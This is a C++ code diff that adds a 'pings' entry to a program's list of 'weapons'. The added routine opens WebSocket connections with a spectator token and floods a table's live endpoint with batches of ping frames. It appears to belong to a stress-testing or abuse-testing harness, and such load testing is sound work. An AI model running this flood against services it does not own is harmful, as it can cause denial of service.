@@ -17,6 +17,23 @@ void upload(const Attack& attack) {
   for (std::uint64_t i = 1; !attack.over; ++i, ++attack.done) (void)loop.ask(upload_text(attack.full.back(), i, lines));
 }
 
+void ping(const Attack& attack) {
+  const OwnTable& table = attack.full.front();
+  const std::string hello = net::client::masked_frame(1, Json{{"type", "hello"}, {"token", table.spectator}}.dump());
+  std::string many;
+  for (int i = 0; i < 100; ++i) many += net::client::masked_frame(9, "ping");
+  while (!attack.over) {
+    Raw line(attack.from, attack.port);
+    if (!line.is_open() || !line.send(upgrade_text(table.path + "/live")) || line.receive(1'000).empty() ||
+        !line.send(hello))
+      continue;
+    while (!attack.over && line.send(many)) {
+      attack.done += 100;
+      (void)line.receive(0);
+    }
+  }
+}
+
 void connect(const Attack& attack) {
   std::vector<Raw> idle;
   while (!attack.over) {
@@ -92,6 +109,7 @@ std::vector<Weapon> weapons() {
           {"no tournaments", watch_nothing},
           {"uploads", upload},
           {"connections", connect},
+          {"pings", ping},
           {"headers", send_headers},
           {"commands", command},
           {"sign-ins", sign_in},
